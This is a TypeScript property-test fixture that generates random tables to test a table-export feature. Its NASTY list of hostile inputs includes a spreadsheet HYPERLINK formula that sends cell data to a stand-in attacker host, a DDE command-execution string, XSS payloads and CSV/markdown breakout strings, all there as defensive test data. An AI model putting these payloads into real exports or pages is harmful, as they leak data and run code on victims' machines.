/** Tables as they leave the page, with the texts that people and attackers put into tags. */

import fc from 'fast-check';
import type { ExportedTable } from '../../../../src/core/export/exportedTable';

/** What makes a cell run, break out of its place, or look like another. */
const NASTY = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '"=1',
  "'=1",
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  'a;=1',
  'a;"=1',
  'a\n=1',
  'a","=1',
  '|a|b|',
  '`code`',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[link](javascript:alert(1))',
  '![image](https://evil.example)',
  'https://evil.example',
  'www.evil.example',
  '# heading',
  '- item',
  '1. item',
  '$x$ and $y$',
  '&lt;b&gt;',
  '**bold** _it_ ~~no~~',
  '\\',
  '\\|',
  ']]>',
  "it's",
];

export const anyText = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.constantFrom(...Array.from('=+-@;,"\'\n\r\t |`a1 ＝\u200B\u00A0')), { maxLength: 8 })
      .map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.constantFrom(...NASTY)).map((two) => two.join('')) },
);

/** An exact decimal in USD. */
export const anyMoney = fc
  .tuple(fc.boolean(), fc.nat(), fc.option(fc.stringMatching(/^\d{1,15}$/), { nil: undefined }))
  .map(([negative, whole, part]) => `${negative ? '-' : ''}${whole}${part === undefined ? '' : `.${part}`}`);

const anyNumber = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));

const orUnknown = <Value>(value: fc.Arbitrary<Value>) => fc.option(value, { nil: null, freq: 5 });

type Kind = 'text' | 'number' | 'money';
const valueOf = (kind: Kind) =>
  orUnknown<string | number>(kind === 'text' ? anyText : kind === 'number' ? anyNumber : anyMoney);
const UNITS: Readonly<Record<Kind, string | undefined>> = { text: undefined, number: 'tokens', money: 'USD' };

/** Tables of which the first column is a text, as all of ours. */
export const anyTable: fc.Arbitrary<ExportedTable> = fc
  .array(fc.constantFrom<Kind>('text', 'number', 'money'), { maxLength: 5 })
  .chain((more) => {
    const kinds: readonly Kind[] = ['text', ...more];
    return fc.record({
      title: anyText,
      columns: fc.tuple(...kinds.map(() => anyText)).map((labels) =>
        labels.map((label, index) => {
          const unit = UNITS[kinds[index] ?? 'text'];
          return { id: `c${index}`, label, ...(unit === undefined ? {} : { unit }) };
        }),
      ),
      rows: fc.array(fc.tuple(...kinds.map(valueOf)), { maxLength: 6 }),
      about: fc.array(anyText, { maxLength: 4 }),
    });
  });
